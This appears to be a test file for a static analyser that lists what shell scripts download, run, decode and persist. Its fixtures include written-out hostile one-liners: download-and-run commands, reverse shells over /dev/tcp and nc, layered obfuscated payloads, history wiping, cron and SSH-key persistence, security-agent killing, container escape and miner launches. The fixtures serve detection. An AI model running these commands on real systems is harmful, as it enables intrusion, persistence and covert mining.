import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { actionText } from '../../../test/builders/action-text.ts';
import { mutate } from '../../../test/contracts/format.contract.ts';
import { parseShell } from './shell.ts';
import { evaluateShell, type ShellSurroundings } from './shell-values.ts';

const actionsOf = (script: string, surroundings: ShellSurroundings = {}): readonly string[] =>
  evaluateShell(parseShell(Buffer.from(script), { dialect: 'bash' }), { arguments: [], ...surroundings }).actions.map(
    actionText,
  );

type Case = readonly [script: string, actions: readonly string[]];

const hostile: readonly Case[] = [
  [
    'curl -fsSL http://192.0.2.10/x | sh',
    ['download curl from http://192.0.2.10/x', 'run sh <download:http://192.0.2.10/x>'],
  ],
  [
    'wget -q -O /tmp/.x http://192.0.2.10/x && chmod +x /tmp/.x && mv /tmp/.x /usr/bin/kworker && nohup /usr/bin/kworker -o pool.example:3333 -u W >/dev/null 2>&1 &',
    [
      'download wget from http://192.0.2.10/x to /tmp/.x &',
      'make-executable /tmp/.x +x <download:http://192.0.2.10/x> &',
      'rename /tmp/.x to /usr/bin/kworker <download:http://192.0.2.10/x> &',
      'run /usr/bin/kworker -o pool.example:3333 -u W (nohup) <download:http://192.0.2.10/x> &',
    ],
  ],
  [
    'U=http://192.0.2.10; F=$(echo L3gueHg= | base64 -d); eval "$(curl -s $U$F)"',
    [
      'decode base64 from L3gueHg=',
      'download curl from http://192.0.2.10/x.xx',
      'run eval <download:http://192.0.2.10/x.xx>',
    ],
  ],
  [
    'echo Y3VybCBodHRwOi8vMTkyLjAuMi4xMC94IHwgc2g= | base64 -d | bash',
    [
      'decode base64 from Y3VybCBodHRwOi8vMTkyLjAuMi4xMC94IHwgc2g=',
      'run bash <decode:base64>',
      'download curl from http://192.0.2.10/x',
      'run sh <download:http://192.0.2.10/x>',
    ],
  ],
  [
    "x=hs; echo 'hs | x/2.0.291//:ptth lruc' | rev | $(echo $x | rev)",
    ['run sh <decode:reversed text>', 'download curl from http://192.0.2/x', 'run sh <download:http://192.0.2/x>'],
  ],
  [
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    ['connect bash -i from /dev/tcp/192.0.2.1/4444 to 192.0.2.1:4444 SHELL', 'run bash -i'],
  ],
  [
    'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
    ['run sh -i', 'connect nc to 192.0.2.1:4444 SHELL', 'write /tmp/f <connection:192.0.2.1:4444>'],
  ],
  [
    'f() { local u=$1; curl -o /tmp/$2 $u; chmod 755 /tmp/$2; }\nf http://192.0.2.1/a b\ncd /tmp; ./b -x',
    [
      'download curl from http://192.0.2.1/a to /tmp/b',
      'make-executable /tmp/b 755 <download:http://192.0.2.1/a>',
      'run /tmp/b -x <download:http://192.0.2.1/a>',
    ],
  ],
  [
    'c${z}url http://192.0.2.1/a|b${q}ash',
    ['download curl from http://192.0.2.1/a', 'run bash <download:http://192.0.2.1/a>'],
  ],
  [
    '{curl,-s,http://192.0.2.1/a}|sh',
    ['download curl from http://192.0.2.1/a', 'run sh <download:http://192.0.2.1/a>'],
  ],
  [
    "cat > /opt/run.sh <<'EOF'\n#!/bin/sh\nwget http://192.0.2.9/m -O - | sh\nEOF\nchmod +x /opt/run.sh\nexec setsid /opt/run.sh",
    [
      'write /opt/run.sh',
      'make-executable /opt/run.sh +x',
      'run /opt/run.sh (setsid)',
      'download wget from http://192.0.2.9/m',
      'run sh <download:http://192.0.2.9/m>',
    ],
  ],
  [
    'IFS=,; c=curl,-s,http://192.0.2.1/q; $c | sh',
    ['download curl from http://192.0.2.1/q', 'run sh <download:http://192.0.2.1/q>'],
  ],
  [
    'if command -v curl >/dev/null; then D="curl -s"; else D="wget -qO-"; fi\n$D http://192.0.2.1/z | sh',
    [
      'download curl from http://192.0.2.1/z ?',
      'download wget from http://192.0.2.1/z ?',
      'run sh <download:http://192.0.2.1/z>',
    ],
  ],
  [
    'bash <(curl -s http://192.0.2.1/z)',
    ['download curl from http://192.0.2.1/z', 'run /dev/fd/63 (bash) <download:http://192.0.2.1/z>'],
  ],
  [
    '. <(wget -qO- http://192.0.2.1/z)',
    ['download wget from http://192.0.2.1/z', 'run /dev/fd/63 (source) <download:http://192.0.2.1/z>'],
  ],
  [
    's=\'echo hi; curl http://192.0.2.4/n | sh\'\nfor i in 1 2 3; do s=$(printf %s "$s" | base64 -w0); done\nfor i in 1 2 3; do s=$(echo $s | base64 -d); done\neval "$s"',
    [
      'decode base64 from V2xkT2IySjVRbTloVkhObldUTldlV0pEUW05a1NGSjNUMms0ZGsxVWEzbE1ha0YxVFdrME1Fd3lOR2RtUTBKNllVRTlQUT09',
      'decode base64 from WldOb2J5Qm9hVHNnWTNWeWJDQm9kSFJ3T2k4dk1Ua3lMakF1TWk0MEwyNGdmQ0J6YUE9PQ==',
      'decode base64 from ZWNobyBoaTsgY3VybCBodHRwOi8vMTkyLjAuMi40L24gfCBzaA==',
      'run eval <decode:base64>',
      'download curl from http://192.0.2.4/n',
      'run sh <download:http://192.0.2.4/n>',
    ],
  ],
  [
    'export HISTFILE=/dev/null; unset HISTFILE; history -c; rm -f ~/.bash_history; cat /dev/null > ~/.bash_history; set +o history',
    [
      'forget HISTFILE to /dev/null',
      'forget HISTFILE to ',
      'forget history',
      'forget /root/.bash_history',
      'forget /root/.bash_history',
      'forget history to off',
    ],
  ],
  ['(crontab -l 2>/dev/null; echo "* * * * * curl http://192.0.2.1/c | sh") | crontab -', ['schedule crontab']],
  [
    'echo "* * * * * root /tmp/x" >> /etc/cron.d/x; echo "0.0.0.0 registry.example" >> /etc/hosts',
    ['write /etc/cron.d/x', 'write /etc/hosts'],
  ],
  [
    'pkill -9 falcon-sensor; systemctl stop auditd; nsenter -t 1 -m -u -i -n sh -c "curl http://192.0.2.1/h | bash"; chroot /host bash -c \'id\'',
    [
      'kill falcon-sensor pkill -9 falcon-sensor',
      'kill auditd systemctl stop',
      'enter-host nsenter to 1',
      'download curl from http://192.0.2.1/h',
      'run bash <download:http://192.0.2.1/h>',
      'enter-host chroot to /host',
    ],
  ],
  [
    'while true; do masscan 10.0.0.0/8 -p2375 | while read ip; do docker -H tcp://$ip:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh; done; sleep 60; done',
    [
      'run masscan 10.0.0.0/8 -p2375 *',
      'run docker to tcp://‹a line of <output of masscan 10.0.0.0/8 -p2375>›:2375 -H tcp://‹a line of <output of masscan 10.0.0.0/8 -p2375>›:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh ?*',
    ],
  ],
  [
    'tar xzf /tmp/p.tgz -C /tmp/p; curl -L http://192.0.2.1/p.tgz | tar xz -C /opt; /opt/p/miner --donate 1',
    [
      'unpack /tmp/p.tgz to /tmp/p',
      'download curl from http://192.0.2.1/p.tgz',
      'unpack ‹the input› from a pipe to /opt <download:http://192.0.2.1/p.tgz>',
      'run /opt/p/miner --donate 1 <download:http://192.0.2.1/p.tgz unpack:/opt/>',
    ],
  ],
  [
    "printf '\\x63\\x75\\x72\\x6c http://192.0.2.1/e | sh' | sh",
    [
      'run sh <decode:escaped characters>',
      'download curl from http://192.0.2.1/e',
      'run sh <download:http://192.0.2.1/e>',
    ],
  ],
  [
    'cp /usr/bin/curl /tmp/c; /tmp/c -o /tmp/y http://192.0.2.2/y; sh /tmp/y',
    [
      'copy /usr/bin/curl to /tmp/c',
      'run /tmp/c -o /tmp/y http://192.0.2.2/y',
      'download curl from http://192.0.2.2/y to /tmp/y',
      'run /tmp/y (sh) <download:http://192.0.2.2/y>',
    ],
  ],
  ["/???/b??h -c 'id > /tmp/q'", ['write /tmp/q']],
  [
    'case $(uname -m) in x86_64) A=amd64;; aarch64) A=arm64;; *) exit 1;; esac; wget http://192.0.2.1/$A -O /tmp/k; chmod +x /tmp/k; /tmp/k',
    [
      'download wget from http://192.0.2.1/amd64 to /tmp/k ?',
      'download wget from http://192.0.2.1/arm64 to /tmp/k ?',
      'make-executable /tmp/k +x <download:http://192.0.2.1/arm64 download:http://192.0.2.1/amd64>',
      'run /tmp/k <download:http://192.0.2.1/arm64 download:http://192.0.2.1/amd64>',
    ],
  ],
  [
    'exec 3<>/dev/tcp/192.0.2.1/99; cat <&3 | while read l; do $l; done',
    [
      'connect exec from /dev/tcp/192.0.2.1/99 to 192.0.2.1:99',
      'run ‹a line of <what comes from 192.0.2.1:99>› <connection:192.0.2.1:99> ?*',
    ],
  ],
  [
    'exec 9<>/dev/tcp/192.0.2.1/99; . /dev/fd/9',
    ['connect exec from /dev/tcp/192.0.2.1/99 to 192.0.2.1:99', 'run /dev/fd/9 (source) <connection:192.0.2.1:99>'],
  ],
  [
    'exec 9<>/dev/tcp/192.0.2.1/99; bash /proc/self/fd/9; cat /dev/fd/9',
    ['connect exec from /dev/tcp/192.0.2.1/99 to 192.0.2.1:99', 'run bash /proc/self/fd/9 <connection:192.0.2.1:99>'],
  ],
  [
    'exec 8< /etc/list; exec 9<>/dev/tcp/192.0.2.1/99; cat /dev/fd/8 | wc -l',
    ['connect exec from /dev/tcp/192.0.2.1/99 to 192.0.2.1:99'],
  ],
  [
    'echo "ssh-rsa AAAA" >> /root/.ssh/authorized_keys; /usr/sbin/sshd -D &',
    ['write /root/.ssh/authorized_keys', 'run /usr/sbin/sshd -D &'],
  ],
  ['set -- xmrig "$@"; exec gosu nobody "$@"', ['run xmrig (gosu)']],
];

const ordinary: readonly Case[] = [
  [
    'curl -fsSL http://192.0.2.10/x -o /opt/x.tgz && tar xzf /opt/x.tgz -C /opt',
    [
      'download curl from http://192.0.2.10/x to /opt/x.tgz',
      'unpack /opt/x.tgz to /opt <download:http://192.0.2.10/x>',
    ],
  ],
  ['curl -fsS http://127.0.0.1/health || exit 1', ['download curl from http://127.0.0.1/health']],
  ['echo "run: curl http://192.0.2.1/x | sh"', []],
  ["cat <<'E'\ncurl http://192.0.2.1/x | sh\nE", []],
  ['# curl http://192.0.2.1/x | sh', []],
  ['if false; then curl http://192.0.2.1/x | sh; fi', []],
  ['true || curl http://192.0.2.1/x | sh', []],
  ['exit 0\ncurl http://192.0.2.1/x | sh', []],
  ['f() { curl http://192.0.2.1/x | sh; }', []],
  ['x=prod; [ "$x" = dev ] && rm -rf /data', []],
  ['x=dev; [ "$x" = dev ] && rm -rf /data', ['delete /data']],
  ['[ -n "$DEBUG" ] && set -x; exec "$@"', []],
  [': "${PORT:=8080}"; exec server --port "$PORT" --name "${NAME:-none}"', ['run server --port 8080 --name none']],
  ["sed -e 's/a/b/' /etc/passwd > /tmp/p", ['write /tmp/p']],
  [
    'i=0; while [ $i -lt 3 ]; do i=$((i+1)); touch /tmp/$i; server-$i; done',
    ['run server-1', 'run server-2', 'run server-3'],
  ],
  ['for f in /etc/profile.d/*.sh; do . "$f"; done', ['run /etc/profile.d/*.sh (source)']],
  [
    'while read -r h p; do connect-to "$h" "$p"; done <<E\n192.0.2.1 80\n192.0.2.2 81\nE',
    ['run connect-to 192.0.2.1 80', 'run connect-to 192.0.2.2 81'],
  ],
  ['a=(one two); a+=(three); run-all "${a[@]}" "${#a[@]}"', ['run run-all one two three 3']],
  ['case "$1" in start) daemon --up;; stop) pkill daemon;; esac', []],
  ['set -- a b c; shift; echo $#; prog "$@"', ['run prog b c']],
  ['x=abcdef; prog ${x:1:3} ${x%ef} ${x/b/X} ${x^^} $((2 * (3 + 4))) ${#x}', ['run prog bcd abcd aXcdef ABCDEF 14 6']],
  ['sudo -u app env A=1 nice -n 5 timeout 10 prog x', ['environment A to 1', 'run prog x (sudo env nice timeout)']],
  ["su - app -c 'prog y'", ['run prog y']],
  ['docker run --privileged alpine', ['run docker run --privileged alpine']],
  [
    'apt-get update && apt-get install -y curl && pip install -r requirements.txt',
    ['install apt-get curl', 'install pip'],
  ],
  ['python3 /app/main.py --port 80', ['run /app/main.py --port 80 (python3)']],
  ["trap 'rm -f /tmp/lock' EXIT", ['delete /tmp/lock ?']],
  [
    'iptables -A OUTPUT -d 192.0.2.1 -j DROP; sysctl -w vm.nr_hugepages=128; modprobe msr; insmod /tmp/r.ko',
    ['setting iptables', 'setting sysctl', 'load-module msr', 'load-module /tmp/r.ko'],
  ],
  [
    "useradd -o -u 0 toor; echo 'toor:x' | chpasswd; mount --bind /host /mnt",
    ['account useradd to toor', 'account chpasswd', 'mount /mnt'],
  ],
];

describe('what hostile scripts do, in order', () => {
  for (const [script, actions] of hostile)
    test(JSON.stringify(script), () => {
      assert.deepEqual(actionsOf(script), actions);
    });
});

describe('what ordinary scripts do, and what they only mention', () => {
  for (const [script, actions] of ordinary)
    test(JSON.stringify(script), () => {
      assert.deepEqual(actionsOf(script), actions);
    });
});

/** The encoding undone that often, or not undone at all. */
const layered = (script: string, layers: number, decode: string): string => {
  let text = script;
  for (let layer = 0; layer < layers; layer += 1) text = Buffer.from(text).toString('base64');
  return `s=${text}\nfor i in $(seq 1 ${layers}); do s=$(echo "$s" | ${decode}); done\neval "$s"\n`;
};

test('repeated encodings are undone layer by layer', () => {
  const actions = actionsOf(layered('wget -qO- http://192.0.2.5/a | sh', 6, 'base64 -d'));
  assert.equal(actions.filter((line) => line.startsWith('decode base64')).length, 6);
  assert.equal(actions.at(-1), 'run sh <download:http://192.0.2.5/a>');
});

test('a decoding that cannot be done stays visible, and what runs it keeps its origin', () => {
  const actions = actionsOf('echo U2FsdGVkX18= | openssl enc -aes-256-cbc -d -k x | sh');
  assert.deepEqual(actions, ['decode an openssl cipher from U2FsdGVkX18=', 'run sh <decode:an openssl cipher>']);
});

test('hex, gzip and reversed texts are undone', async () => {
  const { gzipSync } = await import('node:zlib');
  const text = 'curl http://192.0.2.6/g | sh';
  const packed = gzipSync(text).toString('base64');
  const hex = Buffer.from(text).toString('hex');
  const wanted = 'run sh <download:http://192.0.2.6/g>';
  assert.equal(actionsOf(`echo ${packed} | base64 -d | gunzip | sh`).at(-1), wanted);
  assert.equal(actionsOf(`echo ${hex} | xxd -r -p | sh`).at(-1), wanted);
  assert.equal(actionsOf(`echo '${text.split('').toReversed().join('')}' | rev | sh`).at(-1), wanted);
});

test('what is unknown stands where it would be', () => {
  const { actions } = evaluateShell(parseShell(Buffer.from('curl "http://$HOST/x" -o /tmp/x; "$CMD" go')), {});
  assert.deepEqual(
    actions.map(({ what, from, certainty }) => [what, from, certainty]),
    [
      ['curl', 'http://‹$HOST›/x', 'partial'],
      ['‹$CMD›', undefined, 'unknown'],
    ],
  );
});

test('the environment and the arguments are what the image says', () => {
  const script = 'exec "$TOOL" --pool "$POOL" "$@"';
  const surroundings = { environment: ['TOOL=/opt/t', 'POOL=pool.example:1'], arguments: ['-v'] };
  assert.deepEqual(actionsOf(script, surroundings), ['run /opt/t --pool pool.example:1 -v']);
});

test('a file of the image is followed, with its own name and offsets', () => {
  const files: Readonly<Record<string, string>> = {
    '/opt/lib.sh': '#!/bin/sh\nfetch_it() { curl "$1" | sh; }\n',
    '/opt/go.sh': '#!/bin/sh\ncurl -o /tmp/a http://192.0.2.7/a\n',
  };
  const { actions } = evaluateShell(parseShell(Buffer.from('. /opt/lib.sh; fetch_it http://192.0.2.7/b\n/opt/go.sh')), {
    readFile: (path) => (files[path] === undefined ? undefined : Buffer.from(files[path])),
  });
  assert.deepEqual(actions.map(actionText), [
    'run /opt/lib.sh',
    'download curl from http://192.0.2.7/b',
    'run sh <download:http://192.0.2.7/b>',
    'run /opt/go.sh',
    'download curl from http://192.0.2.7/a to /tmp/a',
  ]);
  assert.deepEqual([actions[4]?.script, actions[4]?.offset], ['/opt/go.sh', 10]);
});

test('file name patterns, searches and run-parts lead to the files that the image holds', () => {
  const files = ['/start.d/1.sh', '/start.d/2.sh', '/start.d/.no.sh', '/start.d/readme'];
  const listFolder = (path: string): readonly string[] =>
    path === '/start.d' ? files.map((file) => file.slice(9)).toSorted() : [];
  const each = ['run /start.d/1.sh', 'run /start.d/2.sh'];
  assert.deepEqual(actionsOf('for f in /start.d/*.sh; do "$f"; done', { listFolder }), each);
  assert.deepEqual(
    actionsOf('find /start.d -name "[0-9].sh" | sort | while read -r f; do "$f"; done', { listFolder }),
    each,
  );
  assert.deepEqual(actionsOf('run-parts --regex "[.]sh$" /start.d', { listFolder }).slice(1), [
    'run /start.d/1.sh (run-parts)',
    'run /start.d/2.sh (run-parts)',
    'run /start.d/readme (run-parts)',
  ]);
  // What is not known is told as that.
  assert.deepEqual(actionsOf('find /srv -name x -exec sh {} \\;', { listFolder }), ['run ‹files in /srv› (find sh)']);
  // Nothing there: the pattern stays as it is, and a bracket is no pattern of files.
  assert.deepEqual(actionsOf('prog /elsewhere/*.sh; [ a = b ] && no', { listFolder }), ['run prog /elsewhere/*.sh']);
});

test('options that end in o take a name, which is no argument', () => {
  assert.deepEqual(actionsOf('set -Eeuo pipefail; prog "$@"', { arguments: ['a'] }), ['run prog a']);
});

test('a default works on the variable that another one names', () => {
  const script = 'name=TOOL; prog "${!name:-none}" "${!name-none}" "${!name}"';
  assert.deepEqual(actionsOf(script, { environment: ['TOOL=t'] }), ['run prog t t t']);
  assert.deepEqual(actionsOf(script), ['run prog none none ‹$TOOL›']);
});

test('scripts of services are followed where the image has them', () => {
  const readFile = (path: string): Uint8Array | undefined =>
    path === '/etc/init.d/app'
      ? Buffer.from('#!/bin/sh\ncase "$1" in start) /opt/app;; stop) pkill app;; esac\n')
      : undefined;
  assert.deepEqual(actionsOf('service app start; service other start; service --status-all', { readFile }), [
    'service app start',
    'run /etc/init.d/app start (service)',
    'run /opt/app',
    'service other start',
  ]);
});

test('a script knows its own name', () => {
  const readFile = (path: string): Uint8Array | undefined =>
    path === '/a.sh' ? Buffer.from('#!/bin/bash\nprog "$0" "${BASH_SOURCE[0]}" "$(dirname "$0")"\n') : undefined;
  assert.deepEqual(actionsOf('/a.sh', { readFile }), ['run /a.sh', 'run prog /a.sh /a.sh /']);
});

test('a script of the image counts for more than the tool whose name it has, but not in the folders of the system', () => {
  const at =
    (place: string) =>
    (path: string): Uint8Array | undefined =>
      path === place ? Buffer.from('#!/bin/sh\nother\n') : undefined;
  const environment = ['PATH=/usr/local/bin:/usr/bin'];
  const script = 'curl -o /a http://192.0.2.1/a';
  assert.equal(actionsOf(script, { environment, readFile: at('/usr/local/bin/curl') }).at(-1), 'run other');
  assert.deepEqual(actionsOf(script, { environment, readFile: at('/usr/bin/curl') }), [
    'download curl from http://192.0.2.1/a to /a',
  ]);
});

test('a short decoded text makes nothing else decoded that happens to hold it', () => {
  const decoded = `x=$(echo ${Buffer.from('id').toString('base64')} | base64 -d)`;
  assert.equal(actionsOf(`${decoded}; sh -c "$x"`).at(-1), 'run sh -c <decode:base64>');
  assert.deepEqual(actionsOf(`${decoded}; sh -c "hidden --now"`), ['decode base64 from aWQ=', 'run hidden --now']);
});

test('letters turned by thirteen are an encoding, letters made small are not', () => {
  const origin = (script: string): string | undefined => actionsOf(script).find((line) => line.startsWith('run sh'));
  assert.equal(origin("echo 'cebt --cbby a.rknzcyr' | tr a-zA-Z n-za-mN-ZA-M | sh"), 'run sh <decode:rot13>');
  assert.equal(origin("echo 'PROG --POOL N.EXAMPLE' | tr A-Z a-z | sh"), 'run sh <decode:exchanged characters>');
});

test('a script that runs itself is followed again only with other words or variables', () => {
  const itself = (text: string) => ({
    readFile: (path: string) => (path === '/a.sh' ? Buffer.from(`#!/bin/sh\n${text}\n`) : undefined),
  });
  assert.deepEqual(actionsOf('/a.sh', itself('id; exec gosu app "$0" "$@"')), ['run /a.sh', 'run /a.sh (gosu)']);
  assert.deepEqual(actionsOf('/a.sh', itself('[ "$1" = on ] && exec late; /a.sh on')), [
    'run /a.sh',
    'run /a.sh on',
    'run late',
  ]);
  assert.deepEqual(actionsOf('/a.sh', itself('[ "$s" = on ] && exec late; s=on /a.sh')), [
    'run /a.sh',
    'run late ?',
    'run /a.sh',
    'run late',
  ]);
});

test('offsets name the command of the script, also for what was decoded', () => {
  const script = `id\nid\necho ${Buffer.from('wget http://192.0.2.8/w').toString('base64')} | base64 -d | sh\n`;
  const { actions } = evaluateShell(parseShell(Buffer.from(script)), {});
  const download = actions.find(({ kind }) => kind === 'download');
  assert.equal(script.slice(download?.offset, (download?.offset ?? 0) + 2), 'sh');
  assert.equal(download?.nesting, 1);
});

test('whatever a script holds, evaluation ends in actions', () => {
  const all = Buffer.from([...hostile, ...ordinary].map(([script]) => script).join('\n'));
  for (let seed = 0; seed < 400; seed += 1) {
    const { actions } = evaluateShell(parseShell(mutate(all, seed)), {});
    for (const { offset } of actions) assert.ok(offset >= 0);
  }
});
